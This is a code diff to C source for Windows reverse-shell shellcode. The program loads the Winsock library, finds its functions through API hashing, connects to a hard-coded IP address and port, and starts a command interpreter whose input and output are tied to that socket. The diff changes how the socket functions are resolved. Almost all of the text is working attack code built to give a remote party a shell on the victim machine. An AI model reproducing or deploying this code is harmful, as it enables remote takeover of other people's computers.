@@ -1,7 +1,6 @@
 /* Connects, and gives the connection to a command interpreter. */
 #include "windows.h"
 
-typedef byte *CALLED load_library(const char *name);
 typedef int CALLED start_sockets(word version, void *data);
 typedef long CALLED open_socket(int family, int type, int protocol, void *info, dword group,
 				dword flags);
@@ -36,13 +35,15 @@ static void clear(void *memory, dword length)
 static long connect_back(void)
 {
 	byte address[16] = { 2, 0, 0x11, 0x5f, 192, 0, 2, 94 }, data[512];
-	char library[] = "ws2_32.dll";
+	char library[] = "ws2_32.dll", start[] = "WSAStartup", open[] = "WSASocketA";
+	char connect[] = "connect";
+	find_function *find = (find_function *)function_by_hash(FIND_FUNCTION);
+	byte *sockets = ((load_library *)function_by_hash(LOAD_LIBRARY))(library);
 	long socket;
 
-	((load_library *)function_by_hash(LOAD_LIBRARY))(library);
-	((start_sockets *)function_by_hash(START_SOCKETS))(0x202, data);
-	socket = ((open_socket *)function_by_hash(OPEN_SOCKET))(2, 1, 6, 0, 0, 0);
-	((connect_socket *)function_by_hash(CONNECT))(socket, address, sizeof address);
+	((start_sockets *)find(sockets, start))(0x202, data);
+	socket = ((open_socket *)find(sockets, open))(2, 1, 6, 0, 0, 0);
+	((connect_socket *)find(sockets, connect))(socket, address, sizeof address);
 	return socket;
 }
 
@@ -62,6 +63,6 @@ ENTRY void code(void)
 	startup.flags = 0x100;
 	startup.input = startup.output = startup.errors = socket;
 	((create_process *)function_by_hash(CREATE_PROCESS))(0, command, 0, 0, 1, 0, 0, 0, &startup,
-							 information);
+							     information);
 	((exit_process *)function_by_hash(EXIT_PROCESS))(0);
 }
